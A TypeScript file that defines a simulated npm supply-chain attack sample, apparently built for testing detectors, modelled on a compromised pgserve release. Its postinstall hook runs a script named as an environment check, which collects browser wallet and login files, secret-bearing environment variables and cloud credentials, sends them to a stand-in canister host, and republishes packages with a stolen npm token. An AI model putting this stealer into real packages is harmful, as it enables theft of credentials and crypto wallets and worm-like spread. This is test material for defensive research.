import { defineAttack } from "../attack.ts";
import { commandTool } from "../bases.ts";
import { collectCloud, collectSecrets, postLoot, republish } from "../fragments.ts";
import { commonScript } from "../guard.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * CanisterSprawl in pgserve 1.1.11 to 1.1.13, 21 April 2026: a stolen token. A readable stealer of a thousand lines under a name
 * that says it checks the environment; wallets of browsers too; a canister takes what was found, and a worm spreads it.
 */
export const pgserve2026: Sample = defineAttack({
  id: "pgserve-2026",
  title: "A readable stealer of a thousand lines, called a check of the environment",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "pgserve", version: "1.1.11" }],
  now: "2026-04-21T22:30:00Z",
  createLines: () => [
    {
      name: "pgserve",
      files: commandTool("pgserve", "pgserve"),
      manifest: { bin: { pgserve: "bin/pgserve.js" } },
      publisher: person("namastex"),
      releases: [
        ["1.1.9", "2026-03-30T10:00:00Z"],
        ["1.1.10", "2026-04-15T10:00:00Z"],
        ["1.1.11", "2026-04-21T22:14:00Z", armed()],
        ["1.1.12", "2026-04-21T22:23:00Z", armed()],
      ],
    },
  ],
});

function armed(): LineChange {
  return {
    hasCommit: false,
    manifest: { scripts: { test: "node --test", postinstall: "node scripts/check-env.js || true" } },
    files: [{ path: "scripts/check-env.js", content: stealer }],
  };
}

const stealer = commonScript(`
${collectSecrets}
${collectCloud}
${republish}
${String.raw`
const browsers = ["Google/Chrome", "BraveSoftware/Brave-Browser", "Microsoft/Edge"];
const extensions = { metamask: "nkbihfbeogaeaoehlefnkodbefgpgknn", phantom: "bfnaelmomeimhlpmgjnjophhpkkoljpa" };
function collectWallets() {
  loot.wallets = {};
  for (const browser of browsers) {
    for (const [wallet, id] of Object.entries(extensions)) {
      const folder = path.join(os.homedir(), "Library", "Application Support", browser, "Default", "Local Extension Settings", id);
      if (fs.existsSync(folder)) loot.wallets[browser + "/" + wallet] = fs.readdirSync(folder).map((name) => fs.readFileSync(path.join(folder, name)).toString("base64"));
    }
    const logins = path.join(os.homedir(), ".config", browser.toLowerCase(), "Default", "Login Data");
    if (fs.existsSync(logins)) loot.wallets[browser + "/logins"] = fs.readFileSync(logins).toString("base64");
  }
}
function collectVariables() {
  const pattern = /(token|secret|key|password|passwd|credential|auth)/i;
  loot.variables = Object.fromEntries(Object.entries(process.env).filter(([name]) => pattern.test(name)));
}
`}
(async () => {
  collectWallets();
  collectVariables();
  await collectCloud().catch(() => {});
  ${postLoot("cjn37-uyaaa-aaaac-qgnva-cai.raw.icp.invalid", "/drop")}
  if (npmToken()) await republish(npmToken());
})();
`);
